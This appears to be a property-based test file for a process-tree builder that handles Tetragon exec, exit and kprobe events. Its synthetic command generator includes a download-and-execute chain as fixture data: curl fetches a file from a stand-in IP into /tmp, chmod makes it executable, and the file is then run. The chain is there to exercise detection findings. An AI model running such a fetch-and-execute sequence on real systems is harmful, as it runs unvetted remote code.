import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ProcessTreeBuilder } from './process-tree-builder.ts';
import {
  execLine,
  exitLine,
  kprobeLine,
  parseAll,
  type ProcSpec,
} from '../test-support/event-factory.ts';
import type { ParsedEvent } from '../tetragon/parsed-event.ts';
import type { Process } from '../process.ts';
import { summarizeGroup } from './group-summary.ts';

interface GenProcess {
  parent: number; // index, or -1 for none; may point forward to make loops in bad data
  sameImage: boolean; // exec without fork: same pid as the parent, no clone flag
  exec: boolean; // false: known only from its exit (fork without exec) or as a parent
  exit: 'none' | 'full' | 'reduced';
  status: number;
  signal: boolean;
  place: 0 | 1 | 2 | 3; // pod A, pod B, container without pod, host
  probes: number;
}

const genProcess = fc.record<GenProcess>({
  parent: fc.integer({ min: -1, max: 24 }),
  sameImage: fc.boolean(),
  exec: fc.boolean(),
  exit: fc.constantFrom('none', 'full', 'reduced'),
  status: fc.integer({ min: 0, max: 3 }),
  signal: fc.boolean(),
  place: fc.constantFrom(0, 1, 2, 3),
  probes: fc.integer({ min: 0, max: 2 }),
});

const genStream = fc
  .array(genProcess, { minLength: 1, maxLength: 25 })
  .map(toLines)
  .filter((lines) => lines.length > 0);

/** A mix of ordinary commands and ones that trigger findings (shells, downloads, /tmp). */
function commandFor(i: number): { binary: string; args: string; inInitTree?: boolean } {
  switch (i % 6) {
    case 1:
      return { binary: '/bin/sh', args: `-c step${i}` };
    case 2:
      return { binary: '/usr/bin/curl', args: `-so /tmp/f${i % 4} http://198.51.100.7/x` };
    case 3:
      return { binary: `/tmp/f${i % 4}`, args: '' };
    case 4:
      return { binary: '/bin/chmod', args: `+x /tmp/f${i % 4}`, inInitTree: false };
    default:
      return { binary: `/usr/sbin/server${i}`, args: `--n ${i}` };
  }
}

function toLines(procs: GenProcess[]): string[] {
  const specs: ProcSpec[] = [];
  procs.forEach((g, i) => {
    const parentIndex = g.parent < procs.length && g.parent !== i ? g.parent : -1;
    const pods = [
      { pod: { namespace: 'default', name: 'a' }, docker: 'da' },
      { pod: { namespace: 'prod', name: 'b' }, docker: 'db' },
      { pod: null, docker: 'da' },
      { pod: null },
    ] as const;
    specs.push({
      pid: 100 + i,
      ktime: 1_000 + i,
      ...commandFor(i),
      flags: g.exec ? 'execve rootcwd clone' : 'execve',
      start: `2026-01-01T00:00:${String(i).padStart(2, '0')}.5Z`,
      ...pods[g.place],
      ...(parentIndex >= 0 && { parentIndex }),
    } as ProcSpec & { parentIndex?: number });
  });
  // Resolve parents after all specs exist so forward references (loops) work.
  specs.forEach((s, i) => {
    const parentIndex = (s as ProcSpec & { parentIndex?: number }).parentIndex;
    const g = procs[i] as GenProcess;
    if (parentIndex === undefined) return;
    const parent = specs[parentIndex] as ProcSpec;
    s.parent = parent;
    if (g.sameImage && parentIndex < i) {
      s.pid = parent.pid;
      s.flags = 'execve rootcwd';
    }
  });
  const lines: string[] = [];
  specs.forEach((s, i) => {
    const g = procs[i] as GenProcess;
    if (g.exec) lines.push(execLine(s));
    if (g.exit !== 'none') {
      lines.push(
        exitLine(s, {
          reduced: g.exit === 'reduced',
          status: g.status,
          ...(g.signal && { signal: 'SIGKILL' }),
        }),
      );
    }
    for (let k = 0; k < g.probes; k++) lines.push(kprobeLine(s, `probe_${k}`, 9_000 + k));
  });
  if (procs.length % 3 === 0) {
    lines.push(
      '{"rate_limit_info":{"number_of_dropped_process_events":"3"},"node_name":"node-a","time":"2026-01-01T00:00:09Z"}',
    );
  }
  return lines;
}

function dump(builder: ProcessTreeBuilder) {
  const groups = builder.groups();
  return {
    groups,
    processes: groups.map((g) => builder.processes(g.key)),
    trees: groups.map((g) => builder.tree(g.key)),
    markers: builder.markers(),
  };
}

function buildFrom(events: ParsedEvent[], drainEvery = 0): ProcessTreeBuilder {
  const builder = new ProcessTreeBuilder();
  events.forEach((e, i) => {
    builder.apply(e);
    if (drainEvery > 0 && i % drainEvery === 0) builder.drainChanges();
  });
  return builder;
}

const permutedWithDuplicates = genStream.chain((lines) =>
  fc.tuple(
    fc.constant(lines),
    fc.shuffledSubarray(lines, { minLength: lines.length, maxLength: lines.length }),
    fc.array(fc.nat({ max: lines.length - 1 }), { maxLength: 10 }),
  ),
);

describe('rule 7: any order, any duplication, same tree', { timeout: 120_000 }, () => {
  it('gives the identical tree and states for every permutation with duplicates', () => {
    fc.assert(
      fc.property(permutedWithDuplicates, ([lines, shuffled, dupIndexes]) => {
        const inOrder = buildFrom(parseAll(lines));
        const withDuplicates = [...shuffled, ...dupIndexes.map((i) => shuffled[i] as string)];
        const permuted = buildFrom(parseAll(withDuplicates), 3);
        expect(dump(permuted)).toEqual(dump(inOrder));
        // The incrementally kept summaries equal a summary computed from scratch.
        for (const g of permuted.groups()) {
          expect(g).toEqual(summarizeGroup(g.key, permuted.processes(g.key)));
        }
      }),
      { numRuns: 300 },
    );
  });

  it('lets a client that applies the deltas hold exactly what the builder holds', () => {
    fc.assert(
      fc.property(permutedWithDuplicates, ([, shuffled]) => {
        const builder = new ProcessTreeBuilder();
        const client = new Map<string, Map<string, Process>>();
        const events = parseAll(shuffled);
        events.forEach((e, i) => {
          builder.apply(e);
          if (i % 2 === 0 || i === events.length - 1) {
            const changes = builder.drainChanges();
            for (const r of changes.removes) client.get(r.group)?.delete(r.execId);
            for (const p of changes.upserts) {
              const group = client.get(p.group) ?? new Map<string, Process>();
              group.set(p.execId, p);
              client.set(p.group, group);
            }
          }
        });
        for (const g of builder.groups()) {
          const held = [...(client.get(g.key)?.values() ?? [])].sort((a, b) =>
            a.execId < b.execId ? -1 : 1,
          );
          const truth = builder.processes(g.key).sort((a, b) => (a.execId < b.execId ? -1 : 1));
          expect(held).toEqual(truth);
        }
      }),
      { numRuns: 200 },
    );
  });
});
